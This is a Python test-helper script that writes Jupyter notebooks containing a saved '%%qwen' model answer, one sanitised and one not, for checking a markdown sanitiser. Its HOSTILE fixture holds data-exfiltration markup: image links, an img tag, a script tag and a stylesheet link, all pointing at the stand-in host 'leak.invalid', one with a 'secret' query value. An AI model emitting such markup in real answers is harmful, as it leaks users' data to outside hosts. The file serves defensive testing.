"""Writes a notebook as a `%%qwen` session leaves it: answers and receipts in its outputs, put there by our own display.

    python saved_answers.py answers|unsafe FILE

`answers` holds a hostile answer as it is saved, made safe, and a receipt for each case of the shared fixture.
`unsafe` holds the same answer as the model wrote it: what would happen if it weren't made safe.
"""

import json
import sys
from pathlib import Path
from typing import Any

import msgspec
from nbformat.v4 import new_code_cell, new_notebook, new_output, writes

from qwen_magics.display import receipt
from qwen_magics.display.markdown import safe
from qwen_magics.values import Receipt

FIXTURE = Path(__file__).parents[3] / "tests/fixtures/receipts.json"

KERNEL = {"name": "python3", "display_name": "Python 3"}  # without one JupyterLab asks which

HOSTILE = """\
It is **not** the spread, but the `species`.

![chart](http://leak.invalid/p.png?d=secret)
![chart][ref]

[ref]: http://leak.invalid/reference.png

<img src="http://leak.invalid/tag.png"><script src="http://leak.invalid/s.js"></script>
<link rel="stylesheet" href="http://leak.invalid/s.css">

| what | where |
|---|---|
| table | ![](//leak.invalid/table.png) |
"""


def answer(markdown: str) -> Any:
    """One part of an answer, as it stands in a notebook."""
    data = {"text/markdown": markdown, "text/plain": markdown}
    return new_output("display_data", data=data, metadata=receipt.marked("answer", "t-0001"))


def cells(what: str) -> list[Any]:
    """The notebook's cells, each with its outputs."""
    if what == "unsafe":
        return [new_code_cell("%%qwen\nWhy?", outputs=[answer(HOSTILE)])]
    made = []
    for number, case in enumerate(json.loads(FIXTURE.read_text("utf-8"))):
        data, metadata = receipt.bundle(msgspec.convert(case["receipt"], Receipt, strict=False))
        said = [answer(safe(HOSTILE))] if number == 0 else []
        shown = new_output("display_data", data=data, metadata=metadata)
        made.append(new_code_cell(f"%%qwen\n{case['name']}", outputs=[*said, shown], execution_count=number + 1))
    return made


if __name__ == "__main__":
    notebook = new_notebook(cells=cells(sys.argv[1]), metadata={"kernelspec": KERNEL})
    Path(sys.argv[2]).write_text(writes(notebook), "utf-8")
